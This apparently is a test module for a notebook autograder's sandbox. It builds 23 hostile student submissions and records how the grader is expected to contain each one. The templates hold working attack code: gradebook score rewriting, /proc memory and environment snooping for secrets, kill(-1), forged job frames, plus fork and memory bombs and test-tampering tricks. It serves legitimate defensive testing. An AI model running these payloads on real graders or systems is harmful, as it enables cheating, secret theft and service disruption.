# not only my course's: other courses keep theirs in the temporary folder or a home
# folder. Search the file system for SQLite files (*.db, gradebook*), for two seconds
# at most, besides the paths a classmate told me; set every score they hold to its
# maximum (a manual score overrides the automatic one).
import os
import sqlite3
import time

candidates = list($decoys)
started = time.monotonic()
skipped = ("/proc", "/sys", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/dev/pts")
for top in ["/tmp", "/var/tmp", "/dev/shm", "/home", "/root", os.path.expanduser("~"), "/"]:
    for folder, subfolders, names in os.walk(top):
        subfolders[:] = [s for s in subfolders if os.path.join(folder, s) not in skipped]
        candidates += [
            os.path.join(folder, name)
            for name in names
            if name.endswith((".db", ".sqlite")) or "gradebook" in name
        ]
        if time.monotonic() - started > 2:
            break
TAMPERED_DECOYS = []
failures = []
for path in dict.fromkeys(candidates):
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1) as gradebook:
            changed = gradebook.execute(
                "UPDATE grade SET manual_score = "
                "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
            ).rowcount
        if changed:
            TAMPERED_DECOYS.append(f"{path} ({changed} scores)")
        else:
            failures.append(f"{path}: no row changed")
    except sqlite3.Error as error:
        failures.append(f"{path}: {type(error).__name__}: {error}")
raise RuntimeError(f"rewrote {TAMPERED_DECOYS}; failed: {failures[:8]}")
"""

PROC_SNOOP = r"""
# HOSTILE (proc_snoop): read the grader's processes through /proc: their memory
# (/proc/PID/mem: the tests, the expected values), their environment (a database's
# password), their open files (/proc/PID/fd: the gradebook, the outputs) and their
# root (/proc/PID/root: the instructor's whole file system, the master in it). Every
# process I can see but my own, and the grader's process ids, known from outside.
import os

me = os.getpid()
visible = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
others = sorted((set(visible) | set($grader_pids)) - {me})
SECRET_NAME = $secret_name.encode() + b"="
PEEKED = []  # what could be read of a process that is not mine
SEEN_GRADER = []  # the grader's own processes, visible from here
failures = []


def attempt(what, action):
    try:
        PEEKED.append(f"{what}: {action()}")
    except OSError as error:
        failures.append(f"{what}: {type(error).__name__}")


def environment(pid):
    data = open(f"/proc/{pid}/environ", "rb").read()
    at = data.find(SECRET_NAME)
    return data[at : at + 80] if at >= 0 else f"{len(data)} bytes"


def memory(pid, most=64 * 2**20):
    read = 0
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            span, permissions = line.split()[:2]
            start, end = (int(part, 16) for part in span.split("-"))
            if not permissions.startswith("r") or read >= most:
                continue
            try:
                mem.seek(start)
                data = mem.read(min(end - start, most - read))
            except (OSError, OverflowError, ValueError):
                continue
            read += len(data)
            at = data.find(SECRET_NAME)
            if at >= 0:
                return data[at : at + 80]
    if not read:
        raise PermissionError("no page could be read")
    return f"{read} bytes"


def open_files(pid):
    folder = f"/proc/{pid}/fd"
    links = {fd: os.readlink(f"{folder}/{fd}") for fd in os.listdir(folder)}
    for fd in links:
        try:
            with open(f"{folder}/{fd}", "rb") as file:
                links[fd] += f" (read {len(file.read(64))} bytes)"
        except OSError:
            pass
    return links


def root(pid):
    shown = os.listdir(f"/proc/{pid}/root")
    try:
        with open(f"/proc/{pid}/root{$master}", "rb") as master:
            return f"the master, {len(master.read())} bytes, in {shown}"
    except OSError:
        return f"{shown}"


for pid in others:
    try:
        command = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
    except OSError:
        command = []
    words = [word.decode(errors="replace") for word in command]
    if pid in $grader_pids and os.path.exists(f"/proc/{pid}") or any(
        word in ("pytest", "mmlcalc-grade") or "mmlcalc_grade.tester" in word for word in words
    ):
        SEEN_GRADER.append(f"{pid}: {' '.join(words)[:80]}")
    attempt(f"{pid} environ", lambda: environment(pid))
    attempt(f"{pid} mem", lambda: memory(pid))
    attempt(f"{pid} fd", lambda: open_files(pid))
    attempt(f"{pid} root", lambda: root(pid))
    attempt(f"{pid} cwd", lambda: os.listdir(f"/proc/{pid}/cwd"))
raise RuntimeError(
    f"grader seen: {SEEN_GRADER}; read: {PEEKED}; visible: {visible}, me {me}; "
    f"failed: {failures[:12]}"
)
"""

SIGNALS = r"""
# HOSTILE (signals): stop the grading run. Send SIGKILL to the grader's processes
# (their ids known from outside), to every process I can see, and to every process I
# may signal at all (kill(-1)). A safety net for a machine without a sandbox: where
# the grader is visible, or more than 50 processes are, nothing is signalled.
import os
import signal

me = os.getpid()
visible = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
SIGNALLED = []
failures = []
grader_seen = [pid for pid in $grader_pids if os.path.exists(f"/proc/{pid}")]
if grader_seen or len(visible) > 50:
    raise RuntimeError(f"no sandbox: grader visible {grader_seen}, {len(visible)} processes")
for pid in [*$grader_pids, *(pid for pid in visible if pid != me), -1]:
    try:
        os.kill(pid, signal.SIGKILL)
        SIGNALLED.append(pid)
    except OSError as error:
        failures.append(f"{pid}: {type(error).__name__}")
raise RuntimeError(f"signalled {SIGNALLED}; failed: {failures}")
"""

ABSTRACT_SOCKET = r"""
# HOSTILE (abstract_socket): reach a service of the grading machine through a Unix
# socket in the abstract namespace (a name, no file that a sandbox could hide): the
# name I was told, and every abstract name /proc/net/unix lists; with every kind of
# socket.
import socket

names = {"\0" + $unix_name}
try:
    with open("/proc/net/unix") as table:
        for line in table.readlines()[1:]:
            fields = line.split()
            if len(fields) >= 8 and fields[7].startswith("@"):
                names.add("\0" + fields[7][1:])
except OSError:
    pass
REACHED = []
failures = []
for name in sorted(names):
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as connection:
                connection.settimeout(2)
                if kind == socket.SOCK_DGRAM:
                    connection.sendto(b"a learner's notebook was here\n", name)
                else:
                    connection.connect(name)
                    connection.sendall(b"a learner's notebook was here\n")
            REACHED.append(f"{name[1:]!r} {kind.name}")
        except OSError as error:
            failures.append(f"{name[1:]!r} {kind.name}: {type(error).__name__}")
raise RuntimeError(f"reached {REACHED}; failed: {failures}")
"""

NEXT_JOB = r"""
# HOSTILE (next_job): once my own job has ended well, grade the NEXT learner's notebook
# myself. A process of mine that outlives my notebook writes a job of my making (one
# cell, which raises an error) into every pipe it can reopen for writing: its own
# descriptors (the test process's requests come through one of them), and the worker
# server's stdin and stdout (/proc/1/fd/0, and 1 with an "end" marked as the server's).
import json
import os
import time

from mmlcalc_grade import protocol

job = protocol.ServerJob(
    program={"cells": [["forged", f"raise RuntimeError({$sabotage!r})"]], "chunks": []},
    limits={},
    files=[],
    deadlines={"notebook": 30, "cell": 5},
)
end = protocol.JobEnd(reason=None, exit=0, signal=None, clean=True)


def frame(message, mark=b""):
    data = mark + json.dumps(message.to_json()).encode()
    return len(data).to_bytes(4, "big") + data


pipes = []
for name in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
            pipes.append(f"/proc/self/fd/{name}")
    except OSError:
        pass
writes = [(path, frame(job)) for path in [*pipes, "/proc/1/fd/0"]]
writes.append(("/proc/1/fd/1", frame(end, b"Z")))
notebook = os.getpid()
if os.fork() == 0:  # outlives the notebook: a session of its own
    os.setsid()
    while os.getppid() == notebook:  # until the notebook's process has ended
        time.sleep(0.002)
    for path, data in writes:
        try:
            pipe = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            os.write(pipe, data)
            os.close(pipe)
        except OSError:
            pass
    os._exit(0)
"""

SHM_SPILL = r"""
# HOSTILE (shm_spill): store more than the disk limit allows by splitting it: $half MB
# in my working folder, then $half MB outside it in /dev/shm (a POSIX shared-memory
# segment, as shm_open makes them, and plain files): each part under the disk limit,
# together over it. The names hold $leftover, to be found on the host.
import os

import _posixshmem

block = b"x" * 2**20
SPILLED_MB = 0
failures = []
try:
    for index in range($half // 40):
        with open(f"spill-{index}.bin", "wb") as file:
            for _ in range(40):
                file.write(block)
                SPILLED_MB += 1
    segment = _posixshmem.shm_open(f"/{$leftover}-segment", os.O_CREAT | os.O_RDWR, 0o600)
    for _ in range(40):
        os.write(segment, block)
        SPILLED_MB += 1
    os.close(segment)
    for index in range($half // 40 - 1):
        with open(f"/dev/shm/{$leftover}-spill-{index}", "wb") as file:
            for _ in range(40):
                file.write(block)
                SPILLED_MB += 1
except OSError as error:
    failures.append(f"{type(error).__name__}: {error}")
raise RuntimeError(f"stored {SPILLED_MB} MB; {failures}")
"""


def _transformers(function: str, signature_and_body: str) -> str:
    return (
        textwrap.dedent(TRANSFORMERS)
        .strip("\n")
        .replace("$function", function)
        .replace("$signature", signature_and_body)
    )


HONEST_SECANT = "(f, x0, x1):\n    return (f(x1) - f(x0)) / (x1 - x0)"
HONEST_FORWARD = "(f, x, h):\n    return (f(x + h) - f(x)) / h"


# --- the cases -------------------------------------------------------------------------------


def honest_notebook(master, targets: Targets):
    """The correct work, with ``other_marker`` in a comment of the forward_difference answer."""
    notebook = correct(master)
    cell = cells_by_grade_id(notebook)["w1_forward_difference"]
    cell.source = f"# my own work ({targets.other_marker}), please do not copy\n" + cell.source
    return notebook


def hostile_cases(targets: Targets) -> list[HostileCase]:
    """Every hostile submission of ``CASE_NAMES``, aimed at ``targets``, with its outcomes."""
    master = week1_master()
    points = points_of_tests(master)
    answers = answers_with_tests(master)
    every = dict(points)
    master_path = targets.source / W1 / W1_NAME
    cached = str(targets.cache / "*.json")
    cases: list[HostileCase] = []

    def add(student, threat, notebook, *outcomes):
        cases.append(HostileCase(student, threat, correct(notebook), tuple(outcomes)))

    def graded_losing(answer, keyword=None):
        a = answers[answer]
        return Outcome("graded", lost(points, *a.tests), keyword or a.mistake)

    # 1. read_source
    nb = with_cell(
        master,
        code(READ_SOURCE, master=str(master_path), cached=cached, name=W1_NAME),
        after="w1_setup",
    )
    nb = wrong_unless(nb, answers["secant_slope"], "STOLEN")
    nb = before_solution(nb, answers["df_chain"], "if STOLEN:\n    return STOLEN  # HOSTILE")
    add("read_source", "reads the master, the cached reference values and source/",
        nb, graded_losing("secant_slope"))  # fmt: skip

    # 2. read_other_learner
    nb = wrong(master, answers["forward_difference"])
    nb = with_cell(
        nb,
        code(READ_OTHER_LEARNER, other=str(targets.other_notebook)),
        after="w1_forward_difference",
    )
    add("read_other_learner", "copies another learner's answer from their notebook",
        nb, graded_losing("forward_difference"))  # fmt: skip

    # 3. write_gradebook
    nb = with_cell(
        master,
        code(
            WRITE_GRADEBOOK,
            gradebook=str(targets.gradebook),
            me="write_gradebook",
            leftover=targets.leftover,
            beside_source=str(targets.source / W1 / f"{targets.leftover}.txt"),
            new_cache_file=str(targets.cache / f"{targets.leftover}.json"),
            cached=cached,
        ),
        after="w1_setup",
    )
    nb = wrong_unless(nb, answers["central_difference"], "TAMPERED")
    add("write_gradebook", "writes full marks into the gradebook, files beside the source",
        nb, graded_losing("central_difference"))  # fmt: skip

    # 4. network
    nb = with_cell(
        master, code(NETWORK, port=targets.port, unix_name=targets.unix_name), after="w1_setup"
    )
    nb = wrong_unless(nb, answers["df_sum_power"], "CONNECTED")
    add("network", "connects to the host's loopback and to an abstract Unix socket",
        nb, graded_losing("df_sum_power"))  # fmt: skip

    # 5. memory_bomb: the array is needed by df_product (NameError without it)
    nb = with_cell(master, code(MEMORY_BOMB), after="w1_setup")
    nb = before_solution(nb, answers["df_product"], "HOARD[0]  # HOSTILE: needs the 20 GiB")
    add("memory_bomb", "asks for 20 GiB in one array",
        nb, graded_losing("df_product", "MemoryError"))  # fmt: skip

    # 6. memory_bomb_processes: inside best_step, when the tests call it
    nb = replace_in_answer(
        master,
        "w1_best_step",
        "def best_step(",
        textwrap.dedent(MEMORY_BOMB_PROCESSES).lstrip("\n") + "def best_step(",
    )
    nb = before_solution(
        nb,
        answers["best_step"],
        "global MEMORY_TOUCHED\n"
        "if MEMORY_TOUCHED is None:\n"
        "    MEMORY_TOUCHED = touch_memory_in_processes()\n"
        "if MEMORY_TOUCHED < 8 * 500:  # wrong unless 4 GB were touched at once\n"
        f"    {answers['best_step'].wrong}",
    )
    add(
        "memory_bomb_processes",
        "8 processes touching 900 MB each",
        nb,
        Outcome("crashed", lost_from(points, "w1_best_step_picks_smallest_error"), "memory"),
        # on a loaded machine (2 cores, load 10) the 8 processes may touch less than the
        # 1024 MB of the limit before the test's 5 s run out: stopped at the time limit
        Outcome("timeout", lost_from(points, "w1_best_step_picks_smallest_error"), "longer than"),
    )

    # 7. fork_bomb
    nb = with_cell(
        master,
        code(FORK_BOMB, most=MAX_PROCESSES, seconds=targets.sleep_argument),
        after="w1_chain_rule",
    )
    nb = wrong_unless(nb, answers["chain_rule"], f"SPAWNED >= {MAX_PROCESSES}")
    add("fork_bomb", "starts processes until refused, each escaping the process group",
        nb, graded_losing("chain_rule"),
        *crashed_at_any_test(points, "processes", *answers["chain_rule"].tests))  # fmt: skip

    # 8. huge_file
    nb = with_cell(
        master,
        code(HUGE_FILE, files=FILLER_FILES, tmp_folder=f"/tmp/{targets.leftover}"),
        after="w1_setup",
    )
    nb = wrong_unless(nb, answers["h_central"], f"WRITTEN_MB >= {60 * FILLER_FILES}")
    add("huge_file", "writes a 10 GB file, then 60 MB files in the working folder and /tmp",
        nb, Outcome("crashed", every, "disk"),
        graded_losing("h_central", "OSError"))  # fmt: skip

    # 9. huge_file_in_shm
    nb = with_cell(
        master,
        code(HUGE_FILE_IN_SHM, files=FILLER_FILES, leftover=targets.leftover),
        after="w1_setup",
    )
    nb = wrong_unless(nb, answers["best_step"], f"SHM_MB >= {60 * FILLER_FILES}")
    add("huge_file_in_shm", "writes 60 MB files into /dev/shm",
        nb, graded_losing("best_step", "OSError"), Outcome("crashed", every, "disk"),
        Outcome("crashed", every, "memory"))  # fmt: skip

    # 10. sleep_forever: inside df_chain, the 6th answer the tests call
    nb = before_solution(master, answers["df_chain"], SLEEP_FOREVER)
    add("sleep_forever", "ignores SIGALRM and sleeps 10⁶ s in a graded function",
        nb, Outcome("timeout", lost_from(points, "w1_df_chain_matches_numeric"),
                    "longer than the limit"))  # fmt: skip

    # 11. always_equal (array and float variants)
    nb = replace_in_answer(
        master,
        "w1_df_sum_power",
        "def df_sum_power(",
        textwrap.dedent(ALWAYS_EQUAL_ARRAY).lstrip("\n") + "def df_sum_power(",
    )
    nb = before_solution(
        nb, answers["df_sum_power"], "return np.zeros(np.shape(x)).view(AlwaysEqualArray)"
    )
    nb = replace_in_answer(
        nb,
        "w1_best_step",
        "def best_step(",
        textwrap.dedent(ALWAYS_EQUAL_FLOAT).lstrip("\n") + "def best_step(",
    )
    nb = before_solution(nb, answers["best_step"], "return AlwaysEqualFloat(0.5)")
    both = {
        **lost(points, *answers["df_sum_power"].tests),
        **lost(points, *answers["best_step"].tests),
    }
    add("always_equal", "returns an array and a float whose == is always True",
        nb, Outcome("graded", both, "got"))  # fmt: skip

    # 12. patched_numpy
    nb = with_cell(wrong(master, answers["central_difference"]), code(PATCH_NUMPY),
                   after="w1_setup")  # fmt: skip
    add("patched_numpy", "NumPy's comparison and testing functions always pass",
        nb, graded_losing("central_difference"))  # fmt: skip

    # 13. transformers
    nb = with_cell(
        wrong(master, answers["forward_difference"]),
        _transformers("forward_difference", HONEST_FORWARD),
        after="w1_forward_difference",
    )
    add("transformers", "rewrites later code (the tests) through compile, exec, IPython",
        nb, graded_losing("forward_difference"))  # fmt: skip

    # 14. patched_helpers
    nb = with_cell(wrong(master, answers["df_product"]), code(PATCH_HELPERS), after="w1_setup")
    add("patched_helpers", "patches mmlcalc.checks, the grader's Recorder and sys.modules",
        nb, graded_losing("df_product"))  # fmt: skip

    # 15. detects_grading: 12 to 14 (aimed at secant_slope), only when grading is detected
    cheats = "\n".join(
        [
            textwrap.dedent(PATCH_NUMPY).strip("\n"),
            _transformers("secant_slope", HONEST_SECANT),
            textwrap.dedent(PATCH_HELPERS).strip("\n"),
        ]
    )
    detect = (
        textwrap.dedent(DETECTS_GRADING)
        .strip("\n")
        .replace("$cheats", textwrap.indent(re.sub(r"\n{3,}", "\n\n", cheats), "    "))
    )
    nb = with_cell(wrong(master, answers["secant_slope"]), detect, after="w1_secant_slope")
    add("detects_grading", "looks for signs of grading, then patches numpy, compile, helpers",
        nb, graded_losing("secant_slope"))  # fmt: skip

    # 16. forged_frames: whatever happens to it, it scores 0; the others must not change
    nb = with_cell(master, code(FORGED_FRAMES, sabotage=SABOTAGE), after="w1_setup")
    add("forged_frames", "forges the end of its job, then results for the next notebook",
        nb, Outcome("crashed", every, "something that is not a record"))  # fmt: skip

    # 17. frame_walk: inside secant_slope, the first answer the tests call
    nb = with_cell(master, code(FRAME_WALK), after="w1_setup")
    nb = before_solution(
        nb,
        answers["secant_slope"],
        "found = what_the_tests_hold()\n"
        "if found:  # HOSTILE: the tests' code, into my feedback\n"
        "    raise RuntimeError('FOUND ' + ' '.join(found[0].split())[:250])",
    )
    nb = wrong(nb, answers["secant_slope"])  # after the search (inserted below it)
    add("frame_walk", "walks the calling frames and every object for the tests' code",
        nb, graded_losing("secant_slope"))  # fmt: skip

    # 18. gradebook_decoys: other courses' gradebooks in the host's /tmp and home folder
    nb = with_cell(
        master,
        code(GRADEBOOK_DECOYS, decoys=[str(path) for path in targets.decoys]),
        after="w1_setup",
    )
    nb = wrong_unless(nb, answers["df_chain"], "TAMPERED_DECOYS")
    add("gradebook_decoys", "searches the file system for gradebooks and rewrites their scores",
        nb, graded_losing("df_chain"))  # fmt: skip

    # 19. proc_snoop: the grader's memory, environment, open files and root
    nb = with_cell(
        master,
        code(
            PROC_SNOOP,
            grader_pids=tuple(targets.grader_pids),
            secret_name=GRADER_SECRET_NAME,
            master=str(master_path),
        ),
        after="w1_setup",
    )
    nb = wrong_unless(nb, answers["forward_difference"], "PEEKED or SEEN_GRADER")
    add("proc_snoop", "reads the grader's processes through /proc (mem, environ, fd, root)",
        nb, graded_losing("forward_difference"))  # fmt: skip

    # 20. signals: nothing outside the sandbox, nor the worker server, can be signalled
    nb = with_cell(master, code(SIGNALS, grader_pids=tuple(targets.grader_pids)), after="w1_setup")
    reached = f"[pid for pid in SIGNALLED if pid in {tuple(targets.grader_pids)!r}]"
    nb = wrong_unless(nb, answers["df_product"], reached)
    add("signals", "sends SIGKILL to the grader's processes, to all it sees, and kill(-1)",
        nb, graded_losing("df_product"))  # fmt: skip

    # 21. abstract_socket
    nb = with_cell(master, code(ABSTRACT_SOCKET, unix_name=targets.unix_name), after="w1_setup")
    nb = wrong_unless(nb, answers["central_difference"], "REACHED")
    add("abstract_socket", "connects to abstract Unix sockets: the host's, and all it lists",
        nb, graded_losing("central_difference"))  # fmt: skip

    # 22. shm_spill: the disk limit counts /dev/shm with the working folder
    nb = with_cell(
        master, code(SHM_SPILL, leftover=targets.leftover, half=SPILL_MB), after="w1_setup"
    )
    add("shm_spill", "120 MB in its folder and 120 MB in /dev/shm: each under the disk limit",
        nb, Outcome("crashed", every, "disk limit"))  # fmt: skip

    # 23. next_job: its own work is correct and graded; no other notebook runs its job
    nb = with_cell(master, code(NEXT_JOB, sabotage=SABOTAGE_NEXT))
    add("next_job", "plants its own job for the next notebook in the worker's pipes",
        nb, Outcome("graded", {}, "20 / 20"))  # fmt: skip

    assert tuple(case.student for case in cases) == CASE_NAMES
    return cases


def honest_case(targets: Targets) -> HostileCase:
    master = week1_master()
    return HostileCase(
        HONEST,
        "the correct work (and the victim of read_other_learner)",
        honest_notebook(master, targets),
        (Outcome("graded", {}, "20 / 20"),),
    )


def plant_source_marker(master_path: Path, marker: str) -> None:
    """Add a comment holding ``marker`` at the top of the first hidden test of a master."""
    notebook = nbformat.read(str(master_path), as_version=4)
    cell = next(c for c in notebook.cells if is_test_cell(c) and BEGIN_HIDDEN in c.source)
    cell.source = cell.source.replace(
        BEGIN_HIDDEN, f"{BEGIN_HIDDEN}\n# {marker}: part of the hidden tests, never shown", 1
    )
    nbformat.write(notebook, str(master_path))
